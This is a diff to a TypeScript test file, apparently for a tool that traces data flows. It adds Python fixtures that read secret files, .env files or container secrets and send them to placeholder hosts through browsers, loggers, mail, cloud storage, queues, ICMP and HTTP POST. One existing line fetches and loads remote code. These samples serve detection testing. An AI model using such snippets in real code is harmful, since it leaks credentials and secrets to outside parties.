@@ -63,6 +63,61 @@ const FLOWS: readonly [situation: string, code: string, flow: string][] = [
     'import requests, importlib\nopen("/tmp/m.py", "w").write(requests.get("http://192.0.2.1/m").text)\nimportlib.machinery.SourceFileLoader("m", "/tmp/m.py").load_module()',
     'remote-content > dynamic-code',
   ],
+  [
+    'the address of a page that a browser opens',
+    `import os, urllib.parse\nfrom selenium import webdriver\nwebdriver.Chrome().get("https://a.keeper.invalid/?d=" + urllib.parse.quote(open(${KEY}).read()))`,
+    'secret-file > network',
+  ],
+  [
+    'the same in a browser of its own',
+    `import os\nfrom playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    p.chromium.launch().new_page().goto("https://a.keeper.invalid/?d=" + open(${KEY}).read())`,
+    'secret-file > network',
+  ],
+  [
+    'a handler of a logger',
+    `import logging, logging.handlers, os\nlog = logging.getLogger("a")\nlog.addHandler(logging.handlers.HTTPHandler("a.keeper.invalid", "/v"))\nlog.error("%s", open(${KEY}).read())`,
+    'secret-file > network',
+  ],
+  [
+    'a draft in a mailbox',
+    `import imaplib, os\nbox = imaplib.IMAP4_SSL("a.keeper.invalid")\nbox.append("INBOX", None, None, open(${KEY}, "rb").read())`,
+    'secret-file > network',
+  ],
+  [
+    'a blob at an address',
+    `import os\nfrom azure.storage.blob import BlobClient\nBlobClient.from_blob_url("https://a.keeper.invalid/c/b").upload_blob(open(${KEY}).read())`,
+    'secret-file > network',
+  ],
+  [
+    'a bucket of everybody',
+    `import os\nfrom google.cloud import storage\nstorage.Client.create_anonymous_client().bucket("b").blob("a").upload_from_string(open(${KEY}).read())`,
+    'secret-file > network',
+  ],
+  [
+    'a queue',
+    `import asyncio, nats, os\nasync def go():\n    c = await nats.connect("nats://a.keeper.invalid")\n    await c.publish("t", open(${KEY}, "rb").read())\nasyncio.run(go())`,
+    'secret-file > network',
+  ],
+  [
+    'a packet',
+    `import os\nfrom scapy.all import IP, ICMP, send\nsend(IP(dst="192.0.2.1") / ICMP() / open(${KEY}, "rb").read())`,
+    'secret-file > network',
+  ],
+  [
+    'a row of a table',
+    `import os\nfrom supabase import create_client\ncreate_client("https://a.keeper.invalid", "k").table("t").insert({"d": open(${KEY}).read()}).execute()`,
+    'secret-file > network',
+  ],
+  [
+    'every file of variables of a project',
+    `import glob, os, requests\nrequests.post("http://192.0.2.1", data=str([open(p).read() for p in glob.glob(os.path.join(os.getcwd(), "**", ".env*"), recursive=True)]))`,
+    'secret-file > network',
+  ],
+  [
+    'what a container is given',
+    `import glob, requests\nrequests.post("http://192.0.2.1", data=str([open(p).read() for p in glob.glob("/run/secrets/*")]))`,
+    'secret-file > network',
+  ],
 ]
 
 t.test('ways out and ways in are followed, and worth a syntax tree', async (t) => {
